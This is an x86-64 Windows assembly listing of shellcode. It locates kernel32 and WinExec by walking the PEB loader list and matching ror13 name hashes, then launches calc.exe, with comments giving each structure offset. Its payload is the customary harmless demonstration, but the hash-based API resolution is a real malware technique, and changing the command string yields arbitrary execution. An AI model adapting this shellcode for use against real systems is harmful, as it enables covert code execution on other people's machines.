# Shellcode as it is found in the wild: TEB -> PEB -> Ldr, kernel32 by the ror13 hash of its upper-case
# BaseDllName (NUL included), WinExec by the ror13 hash of its name, then WinExec("calc.exe", 1) and return.
# Returns in rax what WinExec returned, or -1 to -3 when it did not find a module, exports or the name.
.intel_syntax noprefix
.text
        push rbx
        push rsi
        push rdi
        push rbp
        sub rsp, 0x28                   # home space; rsp is a multiple of 16 again

        mov rax, gs:[0x60]              # TEB.ProcessEnvironmentBlock
        mov rax, [rax + 0x18]           # PEB.Ldr
        lea rbp, [rax + 0x20]           # Ldr.InMemoryOrderModuleList, the head
        mov rbx, rbp
next_module:
        mov rbx, [rbx]
        cmp rbx, rbp
        je no_module
        mov rsi, [rbx + 0x50]           # BaseDllName.Buffer
        movzx ecx, word ptr [rbx + 0x4a] # BaseDllName.MaximumLength
        xor edx, edx
hash_module:
        movzx eax, byte ptr [rsi]
        inc rsi
        cmp al, 'a'
        jb module_upper
        sub al, 0x20
module_upper:
        ror edx, 13
        add edx, eax
        dec ecx
        jnz hash_module
        cmp edx, 0x92af16da             # KERNEL32.DLL
        jne next_module

        mov rbx, [rbx + 0x20]           # DllBase
        mov eax, [rbx + 0x3c]           # e_lfanew
        mov eax, [rbx + rax + 0x88]     # the export directory of PE32+
        test eax, eax
        jz no_exports
        lea rbp, [rbx + rax]
        mov ecx, [rbp + 0x18]           # NumberOfNames
        mov r8d, [rbp + 0x20]           # AddressOfNames
        add r8, rbx
next_name:
        test ecx, ecx
        jz no_name
        dec ecx
        mov esi, [r8 + rcx * 4]
        add rsi, rbx
        xor edx, edx
hash_name:
        movzx eax, byte ptr [rsi]
        inc rsi
        test al, al
        jz name_done
        ror edx, 13
        add edx, eax
        jmp hash_name
name_done:
        cmp edx, 0x0e8afe98             # WinExec
        jne next_name

        mov eax, [rbp + 0x24]           # AddressOfNameOrdinals
        add rax, rbx
        movzx ecx, word ptr [rax + rcx * 2]
        mov eax, [rbp + 0x1c]           # AddressOfFunctions
        add rax, rbx
        mov eax, [rax + rcx * 4]
        add rax, rbx
        lea rcx, [rip + command]
        mov edx, 1                      # SW_SHOWNORMAL
        call rax
        jmp out
no_module:
        mov eax, -1
        jmp out
no_exports:
        mov eax, -2
        jmp out
no_name:
        mov eax, -3
out:
        add rsp, 0x28
        pop rbp
        pop rdi
        pop rsi
        pop rbx
        ret
command:
        .asciz "calc.exe"
